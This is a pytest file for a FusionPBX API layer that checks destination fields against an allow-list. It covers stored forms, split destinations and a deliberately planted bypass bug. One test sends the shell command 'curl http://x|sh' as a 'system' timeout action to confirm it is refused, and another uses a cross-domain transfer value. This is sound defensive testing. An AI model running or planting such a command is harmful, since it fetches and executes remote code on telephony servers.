"""The destination type (fpbx_api/destinations.py): what FusionPBX's selector offers is
stored, anything else is a 400 naming the field, with nothing written and nothing sent.

The hostile values (fpbx_api/testing/destinations.py) go to the destination fields the
OpenAPI spec shows (``x-fpbx-destination``), not to a list here: the scenario kit sends them
for every resource, so each one that comes next is covered by declaring its fields."""

from __future__ import annotations

import marshmallow as ma
import pytest
from flask import g

from fpbx_api.http.auth import Principal
from fpbx_api.kit import destinations
from fpbx_api.testing.destinations import (
    accepted_hostile_values,
    destination_fields,
    refused_values,
    spec_of,
)
from fpbx_api.testing.scenarios import SCENARIOS
from tests import test_scenarios  # noqa: F401  (registers the resources' scenarios)


def test_every_resource_with_destination_fields_runs_the_hostile_values(app):
    """The scenario kit's ``test_destination_fields_refuse_…`` sends them for each resource
    it knows; every resource the spec shows with destination fields must be one of them."""
    collections = {path.split("/{")[0] for _, path, _, _ in destination_fields(spec_of(app))}
    assert collections >= {"/api/v1/ring-groups", "/api/v1/extensions", "/api/v1/gateways"}
    assert collections <= set(SCENARIOS), collections - set(SCENARIOS)


def test_a_field_that_bypasses_the_allow_list_is_caught(esl_client, tenants, fpbx_db,
                                                        switches, monkeypatch):
    """The planted bug: one field takes its value unchecked."""
    checked = destinations.DestinationNumber._deserialize

    def bypass(self, value, attr, data, **kwargs):
        if self.name == "ring_group_forward_destination":
            return value
        return checked(self, value, attr, data, **kwargs)

    monkeypatch.setattr(destinations.DestinationNumber, "_deserialize", bypass)
    wrong = accepted_hostile_values(esl_client, tenants.a, fpbx_db, switches,
                                    SCENARIOS["/api/v1/ring-groups"]())
    assert wrong and {field for _, field, _, _ in wrong} == {"ring_group_forward_destination"}
    assert ("post", "ring_group_forward_destination", "1001 XML other.example", 201) in wrong


# --- what is accepted, and how it is stored ------------------------------------------------
def ring_group(client, tenant, **fields):
    body = {"ring_group_name": "Sales", "ring_group_extension": "2000", **fields}
    return client.post("/api/v1/ring-groups", json=body, headers=tenant.headers)


@pytest.mark.parametrize(("application", "data", "stored"), [
    ("transfer", "1001", "1001 XML example.com"),
    ("transfer", "*991001 XML example.com", "*991001 XML example.com"),
    ("transfer", "*98 XML EXAMPLE.COM", "*98 XML example.com"),
    ("bridge", "group/sales@example.com", "group/sales@example.com"),
    ("hangup", "", None),
    ("hangup", "USER_BUSY", "USER_BUSY"),
    ("", "", None),
    (None, None, None),
])
def test_timeout_actions_of_the_selector_are_stored_as_fusionpbx_writes_them(
        client, tenants, fpbx_db, application, data, stored):
    r = ring_group(client, tenants.a, ring_group_timeout_app=application,
                   ring_group_timeout_data=data)
    assert r.status_code == 201, r.json
    (row,) = fpbx_db.rows("v_ring_groups")
    assert (row["ring_group_timeout_app"], row["ring_group_timeout_data"]) == (
        application or None, stored)


def test_the_contract_example_timeout_is_accepted(client, tenants, fpbx_db):
    r = ring_group(client, tenants.a, ring_group_timeout_app="transfer",
                   ring_group_timeout_data="1001")
    assert r.status_code == 201
    assert fpbx_db.rows("v_ring_groups")[0]["ring_group_timeout_data"] == "1001 XML example.com"


def test_the_shell_command_of_the_issue_is_refused(client, tenants, fpbx_db):
    before = fpbx_db.fingerprint()
    r = ring_group(client, tenants.a, ring_group_timeout_app="system",
                   ring_group_timeout_data="curl http://x|sh")
    assert r.status_code == 400 and r.json["error"]["code"] == "VALIDATION_ERROR"
    assert {e["field"] for e in r.json["error"]["errors"]} >= {"ring_group_timeout_app"}
    assert fpbx_db.fingerprint() == before


def test_a_split_destination_is_given_whole(client, tenants):
    uuid = ring_group(client, tenants.a).json["data"]["ring_group_uuid"]
    for half in ({"ring_group_timeout_app": "transfer"},
                 {"ring_group_timeout_data": "1001 XML example.com"}):
        r = client.put(f"/api/v1/ring-groups/{uuid}", json=half, headers=tenants.a.headers)
        assert r.status_code == 400, half
    r = client.put(f"/api/v1/ring-groups/{uuid}", json={
        "ring_group_timeout_app": None, "ring_group_timeout_data": "1001"},
        headers=tenants.a.headers)
    assert r.status_code == 400
    assert r.json["error"]["errors"][0]["field"] == "ring_group_timeout_data"
    for empty in (None, ""):  # an application with no data is half a destination
        r = client.put(f"/api/v1/ring-groups/{uuid}", json={
            "ring_group_timeout_app": "transfer", "ring_group_timeout_data": empty},
            headers=tenants.a.headers)
        assert r.status_code == 400, empty
        assert r.json["error"]["errors"][0]["field"] == "ring_group_timeout_app"


def test_forward_and_members_stay_in_the_domain(client, tenants, fpbx_db):
    r = ring_group(client, tenants.a, ring_group_forward_destination="15551234567",
                   destinations=[{"destination_number": "1001@example.com"},
                                 {"destination_number": "1002"}])
    assert r.status_code == 201, r.json
    assert fpbx_db.rows("v_ring_groups")[0]["ring_group_forward_destination"] == "15551234567"


@pytest.mark.parametrize("value", ["!USER_BUSY", "!CALL_REJECTED", "error/user_busy", "1001",
                                   "*991001"])
def test_limit_destination_takes_fusionpbx_values(client, tenants, fpbx_db, value):
    r = client.post("/api/v1/extensions", json={"extension": "1001", "limit_destination": value},
                    headers=tenants.a.headers)
    assert r.status_code == 201, r.json
    assert fpbx_db.rows("v_extensions")[0]["limit_destination"] == value


def test_combined_destination_field(app, tenants):
    """The combined ``app:data`` form, for the resources that keep one column (queues'
    timeout action, call block); judged in a request of domain example.com."""

    class Schema(ma.Schema):
        action = destinations.Destination()

    with app.test_request_context():
        g.principal = Principal(tenants.a.domain_uuid, tenants.a.name, frozenset({"write"}))
        schema = Schema()
        assert schema.load({"action": "transfer:1001"}) == {
            "action": "transfer:1001 XML example.com"}
        assert schema.load({"action": "hangup:"}) == {"action": "hangup:"}
        assert schema.load({"action": ":"}) == {"action": None}
        for value in refused_values("action", tenants.a.name):
            with pytest.raises(ma.ValidationError):
                schema.load({"action": value})
